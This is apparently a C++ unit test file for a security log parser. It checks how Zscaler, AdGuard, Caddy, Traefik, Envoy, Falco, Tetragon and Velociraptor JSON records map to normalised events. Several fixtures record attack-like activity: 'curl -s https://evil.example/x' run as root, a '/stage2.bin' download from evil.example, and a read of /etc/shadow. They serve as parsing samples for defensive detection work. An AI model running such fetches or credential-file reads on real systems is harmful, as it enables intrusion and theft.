// What sensors, resolvers and proxies write as JSON, each by records as they come.
#include "clew/evidence/formats/testing.h"

#include <string>
#include <string_view>

#include <gtest/gtest.h>

namespace clew::evidence {
namespace {

using model::Sight;
using model::TimeQuality;

struct Read {
  std::string source;
  testing::Decoding decoding;
  std::vector<Sight> sees;
  [[nodiscard]] std::string told() const { return source + ": " + testing::told(decoding.event); }
};

/// The first record of a file, as the reader decodes it.
Read read(std::string_view record) {
  const Recognised found = recognise(std::string(record) + '\n' + std::string(record) + '\n');
  FileContext context;
  context.mapping = found.mapping;
  context.envelope = found.envelope;
  const auto sights = sights_of(*found.format, found.source, context);
  return {found.source, testing::decode(*found.format, record, context), {sights.begin(), sights.end()}};
}
std::string told(std::string_view record) { return read(record).told(); }

/// A record that was cut off is no event, whatever its beginning says.
void expect_cut_is_unparsed(std::string_view record) {
  const Recognised found = recognise(std::string(record) + '\n' + std::string(record) + '\n');
  FileContext context;
  context.mapping = found.mapping;
  context.envelope = found.envelope;
  EXPECT_EQ(testing::decode(*found.format, record.substr(0, record.size() / 2), context).outcome, Decoded::unparsed);
}

std::string replaced(std::string_view text, std::string_view what, std::string_view with) {
  std::string changed(text);
  const std::size_t at = changed.find(what);
  EXPECT_NE(at, std::string::npos) << what;
  return changed.replace(at, what.size(), with);
}

constexpr std::string_view zscaler_web =
    R"({"datetime":"2023-06-27 08:12:44","reason":"Allowed","event_id":"7249","protocol":"HTTPS","action":"Allowed","transactionsize":"165","responsesize":"100","requestsize":"65","urlcategory":"Newly Registered Domains","serverip":"203.0.113.66","requestmethod":"CONNECT","refererURL":"None","useragent":"Unknown","product":"NSS","location":"Road Warrior","ClientIP":"10.0.4.21","status":"200","user":"kim@acme.example","url":"evil.example:443","vendor":"Zscaler","hostname":"evil.example","clientpublicIP":"198.51.100.2","threatname":"None","deviceowner":"kim","devicehostname":"MAC-KIM"})";

TEST(Zscaler, WebRecordsNameWhoAskedAndWhom) {
  const Read web = read(zscaler_web);
  EXPECT_EQ(
      web.told(),
      "zscaler_web: http_activity 99 unknown allowed status_detail=Allowed metadata.uid=7249 traffic.bytes_in=100 traffic.bytes_out=65 dst_endpoint.ip=203.0.113.66 http_request.http_method=CONNECT src_endpoint.ip=10.0.4.21 http_response.code=200 actor.user.email_addr=kim@acme.example actor.user.name=kim@acme.example http_request.url.url_string=evil.example:443 http_request.url.hostname=evil.example device.hostname=MAC-KIM");
  EXPECT_EQ(web.decoding.time(), "2023-06-27T08:12:44Z");
  EXPECT_EQ(web.decoding.event.time_quality, TimeQuality::zone_assumed);
  EXPECT_EQ(web.sees, std::vector{Sight::http});
  const std::string collected = R"({"sourcetype":"zscalernss-web","event":)" + std::string(zscaler_web) + "}";
  EXPECT_EQ(told(collected), web.told());
  expect_cut_is_unparsed(zscaler_web);
}

TEST(Zscaler, ABlockedRequestIsBlockedAndNoStatusIsNone) {
  const Read blocked = read(replaced(replaced(zscaler_web, R"("action":"Allowed")", R"("action":"Blocked")"),
                                     R"("status":"200")", R"("status":"NA")"));
  EXPECT_EQ(blocked.decoding.event.disposition, model::Disposition::blocked);
  EXPECT_EQ(blocked.decoding.get(model::Attribute::http_status), "");
}

TEST(Zscaler, FirewallAndDns) {
  EXPECT_EQ(
      told(
          R"({"sourcetype":"zscalernss-fw","event":{"datetime":"Tue Jun 27 08:12:44 2023","user":"kim@acme.example","department":"Default","locationname":"Road Warrior","cdport":"443","csport":"51514","sdport":"443","ssport":"51514","csip":"10.0.4.21","cdip":"203.0.113.66","ssip":"198.51.100.2","sdip":"203.0.113.66","action":"Drop","nwsvc":"HTTPS","nwapp":"ssl","proto":"TCP","rulelabel":"Default","inbytes":"0","outbytes":"60","devicehostname":"NA"}})"),
      "zscaler_firewall: network_activity 5 unknown blocked actor.user.email_addr=kim@acme.example actor.user.name=kim@acme.example dst_endpoint.port=443 src_endpoint.port=51514 src_endpoint.ip=10.0.4.21 dst_endpoint.ip=203.0.113.66 connection_info.protocol_name=TCP status_detail=Default traffic.bytes_in=0 traffic.bytes_out=60");
  const std::string_view dns =
      R"({"datetime":"Tue Jun 27 08:12:44 2023","user":"kim@acme.example","reqaction":"REQ_ALLOW","resaction":"RES_ALLOW","reqrulelabel":"Default","resrulelabel":"Default","dns_reqtype":"A","dns_req":"evil.example","dns_resp":"203.0.113.66","srv_dport":"53","durationms":"4","clt_sip":"10.0.4.21","srv_dip":"192.0.2.53","category":"Other","devicehostname":"MAC-KIM"})";
  EXPECT_EQ(
      told(dns),
      "zscaler_dns: dns_activity 2 unknown actor.user.email_addr=kim@acme.example actor.user.name=kim@acme.example query.type=A query.hostname=evil.example answers.rdata=203.0.113.66 src_endpoint.ip=10.0.4.21 device.hostname=MAC-KIM");
  EXPECT_EQ(read(dns).decoding.time(), "2023-06-27T08:12:44Z");
  EXPECT_EQ(
      told(replaced(dns, "REQ_ALLOW", "REQ_BLOCK")),
      "zscaler_dns: dns_activity 1 unknown blocked actor.user.email_addr=kim@acme.example actor.user.name=kim@acme.example query.type=A query.hostname=evil.example src_endpoint.ip=10.0.4.21 device.hostname=MAC-KIM");
  EXPECT_EQ(
      told(replaced(dns, "203.0.113.66", "NXDOMAIN")),
      "zscaler_dns: dns_activity 1 unknown actor.user.email_addr=kim@acme.example actor.user.name=kim@acme.example query.type=A query.hostname=evil.example src_endpoint.ip=10.0.4.21 device.hostname=MAC-KIM rcode=NXDOMAIN");
  EXPECT_EQ(
      told(replaced(dns, "203.0.113.66", "NOERROR")),
      "zscaler_dns: dns_activity 1 unknown actor.user.email_addr=kim@acme.example actor.user.name=kim@acme.example query.type=A query.hostname=evil.example src_endpoint.ip=10.0.4.21 device.hostname=MAC-KIM");
}

constexpr std::string_view adguard =
    R"({"T":"2023-06-27T10:12:44.123456789+02:00","QH":"evil.example","QT":"A","QC":"IN","CP":"","Upstream":"https://dns.example:443/dns-query","Answer":"abcBAAE=","IP":"10.0.4.21","Result":{},"Elapsed":12345678})";

TEST(AdguardHome, QueriesAreOfTheirClientAndFilteredOnesAreBlocked) {
  const Read query = read(adguard);
  EXPECT_EQ(query.told(),
            "adguard_home: dns_activity 1 unknown query.hostname=evil.example query.type=A src_endpoint.ip=10.0.4.21");
  EXPECT_EQ(query.decoding.time(), "2023-06-27T08:12:44.123456789Z");
  EXPECT_EQ(query.sees, std::vector{Sight::dns});
  EXPECT_EQ(
      told(
          replaced(adguard, R"("Result":{})",
                   R"("Result":{"IsFiltered":true,"Reason":3,"Rules":[{"Text":"||evil.example^","FilterListID":1}]})")),
      "adguard_home: dns_activity 1 unknown blocked query.hostname=evil.example query.type=A src_endpoint.ip=10.0.4.21 status_detail=||evil.example^");
  expect_cut_is_unparsed(adguard);
}

constexpr std::string_view caddy =
    R"({"level":"info","ts":1687853564.123456,"logger":"http.log.access.log0","msg":"handled request","request":{"remote_ip":"203.0.113.66","remote_port":"41342","proto":"HTTP/2.0","method":"GET","host":"www.acme.example","uri":"/login","headers":{"User-Agent":["curl/7.82.0"],"Accept":["*/*"]},"tls":{"resumed":false,"version":772,"proto":"h2","server_name":"www.acme.example"}},"bytes_read":0,"user_id":"","duration":0.000929675,"size":10900,"status":200,"resp_headers":{"Server":["Caddy"]}})";

TEST(Caddy, TheClientIsTheSource) {
  const Read access = read(caddy);
  EXPECT_EQ(
      access.told(),
      "caddy_access: http_activity 99 success src_endpoint.ip=203.0.113.66 src_endpoint.port=41342 http_request.http_method=GET http_request.url.hostname=www.acme.example http_request.url.path=/login http_request.user_agent=curl/7.82.0 tls.sni=www.acme.example http_response.code=200");
  EXPECT_EQ(access.decoding.time(), "2023-06-27T08:12:44.123456Z");
  EXPECT_EQ(access.sees, std::vector{Sight::http});
  EXPECT_EQ(
      told(replaced(caddy, R"("proto":"HTTP/2.0")", R"("client_ip":"198.51.100.7")")),
      "caddy_access: http_activity 99 success src_endpoint.ip=198.51.100.7 http_request.http_method=GET http_request.url.hostname=www.acme.example http_request.url.path=/login http_request.user_agent=curl/7.82.0 tls.sni=www.acme.example http_response.code=200")
      << "behind a proxy";
  EXPECT_EQ(read(replaced(caddy, R"("remote_ip":"203.0.113.66","remote_port":"41342")",
                          R"("remote_addr":"203.0.113.66:41342")"))
                .told(),
            access.told());
  EXPECT_EQ(read(replaced(caddy, "http.log.access.log0", "http.log.error")).source, "json");
  expect_cut_is_unparsed(caddy);
}

TEST(Traefik, TheClientIsTheSource) {
  const Read access = read(
      R"({"ClientAddr":"203.0.113.66:41342","ClientHost":"203.0.113.66","ClientPort":"41342","ClientUsername":"-","DownstreamContentSize":19,"DownstreamStatus":404,"Duration":123456,"RequestAddr":"www.acme.example","RequestCount":7,"RequestHost":"www.acme.example","RequestMethod":"GET","RequestPath":"/login","RequestPort":"-","RequestProtocol":"HTTP/2.0","RequestScheme":"https","StartLocal":"2023-06-27T10:12:44.123+02:00","StartUTC":"2023-06-27T08:12:44.123Z","entryPointName":"websecure","level":"info","msg":"","request_User-Agent":"curl/7.82.0","time":"2023-06-27T10:12:45+02:00"})");
  EXPECT_EQ(
      access.told(),
      "traefik_access: http_activity 99 failure src_endpoint.ip=203.0.113.66 src_endpoint.port=41342 http_response.code=404 http_request.url.hostname=www.acme.example http_request.http_method=GET http_request.url.path=/login http_request.user_agent=curl/7.82.0");
  EXPECT_EQ(access.decoding.time(), "2023-06-27T08:12:44.123Z");
}

constexpr std::string_view envoy =
    R"({"start_time":"2023-06-27T08:12:44.123Z","method":"GET","path":"/stage2.bin","protocol":"HTTP/1.1","response_code":200,"response_flags":"-","bytes_received":0,"bytes_sent":1234,"duration":12,"upstream_service_time":"11","x_forwarded_for":"198.51.100.7","user_agent":"curl/7.82","request_id":"abc","authority":"evil.example","upstream_host":"203.0.113.66:443","downstream_remote_address":"10.0.4.21:51514","upstream_cluster":"outbound|443||evil.example"})";
/// Of a connection Istio leaves the words about requests empty.
constexpr std::string_view envoy_tcp =
    R"({"authority":null,"bytes_received":517,"bytes_sent":4096,"downstream_local_address":"203.0.113.66:443","downstream_remote_address":"10.0.4.21:51514","duration":90,"method":null,"path":null,"protocol":null,"request_id":null,"requested_server_name":"evil.example","response_code":0,"response_flags":"-","start_time":"2023-06-27T08:12:44.123Z","upstream_cluster":"PassthroughCluster","upstream_host":"203.0.113.66:443","upstream_local_address":"10.0.4.21:51516","user_agent":null})";

TEST(Envoy, TheClientIsWhoAskedAndTheUpstreamWhomEnvoyAsked) {
  const Read request = read(envoy);
  EXPECT_EQ(
      request.told(),
      "envoy_access: http_activity 99 success http_request.http_method=GET http_request.url.path=/stage2.bin http_response.code=200 http_request.user_agent=curl/7.82 metadata.uid=abc http_request.url.hostname=evil.example dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443 src_endpoint.ip=10.0.4.21 src_endpoint.port=51514");
  EXPECT_EQ(request.decoding.time(), "2023-06-27T08:12:44.123Z");
  EXPECT_EQ(request.sees, std::vector{Sight::http});
  EXPECT_EQ(
      told(envoy_tcp),
      "envoy_access: network_activity 1 unknown src_endpoint.ip=10.0.4.21 src_endpoint.port=51514 tls.sni=evil.example dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443");
  expect_cut_is_unparsed(envoy);
}

TEST(Envoy, WhatItAnsweredItselfIsNoContact) {
  EXPECT_EQ(
      told(replaced(replaced(envoy, R"("response_flags":"-")", R"("response_flags":"UF,URX")"), "200", "503")),
      "envoy_access: http_activity 99 failure http_request.http_method=GET http_request.url.path=/stage2.bin status_detail=UF,URX http_request.user_agent=curl/7.82 metadata.uid=abc http_request.url.hostname=evil.example dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443 src_endpoint.ip=10.0.4.21 src_endpoint.port=51514");
  EXPECT_EQ(
      told(replaced(envoy, "outbound|443||evil.example", "BlackHoleCluster")),
      "envoy_access: http_activity 99 success blocked http_request.http_method=GET http_request.url.path=/stage2.bin http_response.code=200 http_request.user_agent=curl/7.82 metadata.uid=abc http_request.url.hostname=evil.example dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443 src_endpoint.ip=10.0.4.21 src_endpoint.port=51514");
  EXPECT_EQ(
      told(replaced(envoy, R"("duration":12)", R"("response_code_details":"rbac_access_denied_matched_policy[none]")")),
      "envoy_access: http_activity 99 unknown blocked http_request.http_method=GET http_request.url.path=/stage2.bin http_request.user_agent=curl/7.82 metadata.uid=abc http_request.url.hostname=evil.example dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443 src_endpoint.ip=10.0.4.21 src_endpoint.port=51514");
  EXPECT_EQ(
      told(replaced(envoy_tcp, R"("response_flags":"-")", R"("response_flags":"UF")")),
      "envoy_access: network_activity 4 unknown src_endpoint.ip=10.0.4.21 src_endpoint.port=51514 tls.sni=evil.example status_detail=UF dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443");
}

TEST(Envoy, WhereNoAddressIsLoggedTheForwardedOneCounts) {
  EXPECT_EQ(read(replaced(envoy, R"("downstream_remote_address":"10.0.4.21:51514",)", ""))
                .decoding.get(model::Attribute::src_ip),
            "198.51.100.7");
}

constexpr std::string_view falco_connect =
    R"({"hostname":"node-3","output":"08:12:44.123: Notice Unexpected outbound connection command=curl -s https://evil.example/x connection=10.0.4.21:51514->203.0.113.66:443 user=root","priority":"Notice","rule":"Unexpected outbound connection destination","source":"syscall","tags":["network"],"time":"2023-06-27T08:12:44.123456789Z","output_fields":{"container.id":"3f2","evt.time":1687853564123456789,"evt.type":"connect","fd.name":"10.0.4.21:51514->203.0.113.66:443","proc.cmdline":"curl -s https://evil.example/x","proc.exepath":"/usr/bin/curl","user.name":"root"}})";

TEST(Falco, AnAlertIsWhatItsFieldsSay) {
  const Read connect = read(falco_connect);
  EXPECT_EQ(
      connect.told(),
      "falco: network_activity 1 unknown metadata.event_code=Unexpected outbound connection destination device.hostname=node-3 message=08:12:44.123: Notice Unexpected outbound connection command=curl -s https://evil.example/x connection=10.0.4.21:51514->203.0.113.66:443 user=root dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443 src_endpoint.ip=10.0.4.21 src_endpoint.port=51514 process.cmd_line=curl -s https://evil.example/x actor.process.file.path=/usr/bin/curl actor.user.name=root");
  EXPECT_EQ(connect.decoding.time(), "2023-06-27T08:12:44.123456789Z");
  EXPECT_EQ(connect.sees, std::vector{Sight::text}) << "no alert says nothing";
  const Read v6 = read(replaced(falco_connect, R"("fd.name":"10.0.4.21:51514->203.0.113.66:443")",
                                R"("fd.name":"2001:db8::7:51514->2001:db8:1::9:443")"));
  EXPECT_EQ(v6.decoding.get(model::Attribute::src_ip) + " " + v6.decoding.get(model::Attribute::dst_ip),
            "2001:db8::7 2001:db8:1::9");
  EXPECT_EQ(
      told(replaced(replaced(falco_connect, R"("evt.type":"connect")", R"("evt.type":"execve")"),
                    R"("fd.name":"10.0.4.21:51514->203.0.113.66:443",)", R"("proc.pname":"sh",)")),
      "falco: process_activity 1 unknown metadata.event_code=Unexpected outbound connection destination device.hostname=node-3 message=08:12:44.123: Notice Unexpected outbound connection command=curl -s https://evil.example/x connection=10.0.4.21:51514->203.0.113.66:443 user=root process.parent_process.file.path=sh process.cmd_line=curl -s https://evil.example/x process.file.path=/usr/bin/curl process.user.name=root");
  EXPECT_EQ(
      told(replaced(replaced(falco_connect, R"("evt.type":"connect")", R"("evt.type":"openat")"),
                    "10.0.4.21:51514->203.0.113.66:443\",\"proc", "/etc/shadow\",\"proc")),
      "falco: file_activity 99 unknown metadata.event_code=Unexpected outbound connection destination device.hostname=node-3 message=08:12:44.123: Notice Unexpected outbound connection command=curl -s https://evil.example/x connection=10.0.4.21:51514->203.0.113.66:443 user=root file.path=/etc/shadow actor.process.file.path=/usr/bin/curl actor.user.name=root");
  EXPECT_EQ(
      told(
          R"({"output":"08:12:44.123: Warning evil.example","priority":"Warning","rule":"Some rule","time":"2023-06-27T08:12:44Z","output_fields":{}})"),
      "falco: other 0 unknown metadata.event_code=Some rule message=08:12:44.123: Warning evil.example");
  expect_cut_is_unparsed(falco_connect);
}

constexpr std::string_view tetragon_exec =
    R"({"process_exec":{"process":{"exec_id":"bm9kZQ==","pid":4312,"uid":0,"cwd":"/","binary":"/usr/bin/curl","arguments":"-s https://evil.example/x","flags":"execve","start_time":"2023-06-27T08:12:44.123Z","pod":{"namespace":"default","name":"app-1"}},"parent":{"pid":4300,"binary":"/bin/sh","start_time":"2023-06-27T08:12:40Z"}},"node_name":"node-3","time":"2023-06-27T08:12:44.123Z"})";
constexpr std::string_view tetragon_connect =
    R"({"process_kprobe":{"process":{"exec_id":"bm9kZQ==","pid":4312,"uid":0,"cwd":"/","binary":"/usr/bin/curl","arguments":"-s https://evil.example/x","flags":"execve","start_time":"2023-06-27T08:12:44Z"},"parent":{"pid":4300,"binary":"/bin/sh"},"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.0.4.21","daddr":"203.0.113.66","sport":51514,"dport":443}}],"action":"KPROBE_ACTION_POST"},"node_name":"node-3","time":"2023-06-27T08:12:44.200Z"})";

TEST(Tetragon, ProcessesBeginAndEnd) {
  const Read exec = read(tetragon_exec);
  EXPECT_EQ(
      exec.told(),
      "tetragon: process_activity 1 unknown metadata.correlation_uid=bm9kZQ== process.pid=4312 actor.user.uid=0 process.file.path=/usr/bin/curl process.cmd_line=-s https://evil.example/x process.parent_process.pid=4300 process.parent_process.file.path=/bin/sh device.hostname=node-3");
  EXPECT_EQ(exec.decoding.time(), "2023-06-27T08:12:44.123Z");
  EXPECT_EQ(exec.sees, std::vector{Sight::process});
  EXPECT_EQ(
      told(replaced(tetragon_exec, "process_exec", "process_exit")),
      "tetragon: process_activity 2 unknown metadata.correlation_uid=bm9kZQ== process.pid=4312 actor.user.uid=0 process.file.path=/usr/bin/curl process.cmd_line=-s https://evil.example/x process.parent_process.pid=4300 process.parent_process.file.path=/bin/sh device.hostname=node-3");
  expect_cut_is_unparsed(tetragon_exec);
}

TEST(Tetragon, CallsOfTheKernelAreWhatTheirArgumentsSay) {
  EXPECT_EQ(
      told(tetragon_connect),
      "tetragon: network_activity 1 unknown metadata.correlation_uid=bm9kZQ== actor.process.pid=4312 actor.user.uid=0 actor.process.file.path=/usr/bin/curl process.cmd_line=-s https://evil.example/x metadata.event_code=tcp_connect src_endpoint.ip=10.0.4.21 dst_endpoint.ip=203.0.113.66 src_endpoint.port=51514 dst_endpoint.port=443 device.hostname=node-3 connection_info.protocol_name=tcp");
  EXPECT_EQ(read(replaced(tetragon_connect, "KPROBE_ACTION_POST", "KPROBE_ACTION_OVERRIDE")).decoding.event.disposition,
            model::Disposition::blocked);
  EXPECT_EQ(read(replaced(tetragon_connect, "tcp_connect", "tcp_close")).decoding.event.activity,
            model::activity::network_close);
  const std::string file = replaced(
      replaced(
          tetragon_connect,
          R"({"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.0.4.21","daddr":"203.0.113.66","sport":51514,"dport":443}})",
          R"({"file_arg":{"path":"/etc/shadow"}},{"int_arg":4})"),
      "tcp_connect", "security_file_permission");
  EXPECT_EQ(
      told(file),
      "tetragon: file_activity 99 unknown metadata.correlation_uid=bm9kZQ== actor.process.pid=4312 actor.user.uid=0 actor.process.file.path=/usr/bin/curl metadata.event_code=security_file_permission file.path=/etc/shadow device.hostname=node-3");
  EXPECT_EQ(
      told(replaced(file, R"({"file_arg":{"path":"/etc/shadow"}},)", "")),
      "tetragon: process_activity 99 unknown metadata.correlation_uid=bm9kZQ== process.pid=4312 actor.user.uid=0 process.file.path=/usr/bin/curl process.cmd_line=-s https://evil.example/x process.parent_process.pid=4300 process.parent_process.file.path=/bin/sh metadata.event_code=security_file_permission device.hostname=node-3");
}

/// Both kinds stand in one file, and the first does not decide for the second.
TEST(Tetragon, AFileHasAllKinds) {
  const Recognised found = recognise(std::string(tetragon_exec) + '\n' + std::string(tetragon_connect) + '\n');
  ASSERT_EQ(found.source, "tetragon");
  FileContext context;
  context.mapping = found.mapping;
  EXPECT_EQ(testing::decode(*found.format, tetragon_exec, context).event.event_class,
            model::EventClass::process_activity);
  EXPECT_EQ(testing::decode(*found.format, tetragon_connect, context).event.event_class,
            model::EventClass::network_activity);
}

constexpr std::string_view netstat =
    R"({"Pid":4312,"Name":"agent.exe","Family":"IPv4","Type":"TCP","Status":"ESTAB","Laddr.IP":"10.0.4.21","Laddr.Port":51514,"Raddr.IP":"203.0.113.66","Raddr.Port":443,"Timestamp":"2023-06-27T08:12:44Z","ClientId":"C.1234abcd","Fqdn":"WIN-7.acme.example","FlowId":"F.ABC","_ts":1687853999})";

TEST(Velociraptor, ListsOfConnectionsCoverNothing) {
  const Read row = read(netstat);
  EXPECT_EQ(
      row.told(),
      "velociraptor_netstat: network_activity 6 unknown actor.process.pid=4312 actor.process.file.path=agent.exe connection_info.protocol_name=TCP status_detail=ESTAB src_endpoint.ip=10.0.4.21 src_endpoint.port=51514 dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443 device.uid=C.1234abcd device.hostname=WIN-7.acme.example");
  EXPECT_EQ(row.decoding.time(), "2023-06-27T08:12:44Z");
  EXPECT_EQ(row.sees, std::vector{Sight::text});
  EXPECT_EQ(read(replaced(netstat, "ESTAB", "SYN_SENT")).decoding.event.activity, model::activity::other);
  EXPECT_EQ(
      told(
          R"({"Pid":4312,"Ppid":800,"Name":"agent.exe","Path":"C:\\Program Files\\Agent\\agent.exe","CommandLine":"agent.exe --run","Username":"ACME\\kim","Family":"IPv4","Type":"TCP","Status":"CLOSE_WAIT","SrcIP":"10.0.4.21","SrcPort":51514,"DestIP":"203.0.113.66","DestPort":443,"Timestamp":"2023-06-27T08:12:44Z"})"),
      "velociraptor_netstat: network_activity 6 unknown actor.process.pid=4312 actor.process.file.path=agent.exe actor.process.file.path=C:\\Program Files\\Agent\\agent.exe process.cmd_line=agent.exe --run actor.user.name=ACME\\kim connection_info.protocol_name=TCP status_detail=CLOSE_WAIT src_endpoint.ip=10.0.4.21 src_endpoint.port=51514 dst_endpoint.ip=203.0.113.66 dst_endpoint.port=443");
  expect_cut_is_unparsed(netstat);
}

}  // namespace
}  // namespace clew::evidence
